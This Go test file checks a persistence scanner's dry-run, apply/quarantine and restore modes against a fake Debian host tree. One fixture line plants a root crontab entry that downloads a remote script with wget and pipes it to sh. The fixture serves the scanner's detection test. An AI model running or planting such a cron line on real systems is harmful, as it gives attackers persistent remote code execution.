package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/abusekit/abusekit/plugins/persist"
	"github.com/abusekit/abusekit/plugins/persist/hosttest"
)

func TestDryRunApplyRestore(t *testing.T) {
	dir := t.TempDir()
	tree := hosttest.Debian12().Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime)
	if err := hosttest.Write(dir, tree); err != nil {
		t.Fatal(err)
	}
	orig, _ := os.ReadFile(filepath.Join(dir, "etc/crontab"))

	var out, errb bytes.Buffer
	if err := run([]string{"-root", dir, "-json"}, &out, &errb); err != nil {
		t.Fatal(err, errb.String())
	}
	var got []persist.Finding
	sc := bufio.NewScanner(&out)
	for sc.Scan() {
		var f persist.Finding
		if err := json.Unmarshal(sc.Bytes(), &f); err != nil {
			t.Fatalf("not one JSON finding per line: %q: %v", sc.Text(), err)
		}
		got = append(got, f)
	}
	if len(got) != 1 || got[0].Path != "/etc/crontab" || got[0].Line != 24 || got[0].Severity != persist.Critical {
		t.Fatalf("findings = %+v", got)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); !bytes.Equal(b, orig) {
		t.Fatal("dry run changed the crontab")
	}

	out.Reset()
	if err := run([]string{"-root", dir, "-apply", "-json", "-quarantine", t.TempDir()}, &out, &errb); err != nil {
		t.Fatal(err, errb.String())
	}
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	var res struct {
		ManifestPath string `json:"manifest_path"`
	}
	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &res); err != nil || res.ManifestPath == "" {
		t.Fatalf("apply output %q: %v", out.String(), err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); strings.Contains(string(b), "203.0.113.7") {
		t.Fatal("not cleaned")
	}

	out.Reset()
	if err := run([]string{"-restore", res.ManifestPath}, &out, &errb); err != nil {
		t.Fatal(err, errb.String())
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); !bytes.Equal(b, orig) {
		t.Fatal("restore did not put the crontab back")
	}
	if !strings.Contains(out.String(), "restored /etc/crontab") {
		t.Errorf("restore output %q", out.String())
	}
}

func TestBadFlags(t *testing.T) {
	var out, errb bytes.Buffer
	if err := run([]string{"-min-severity", "extreme"}, &out, &errb); err == nil {
		t.Error("bad severity accepted")
	}
	if err := run([]string{"-root", filepath.Join(t.TempDir(), "missing")}, &out, &errb); err == nil {
		t.Error("missing root accepted")
	}
}
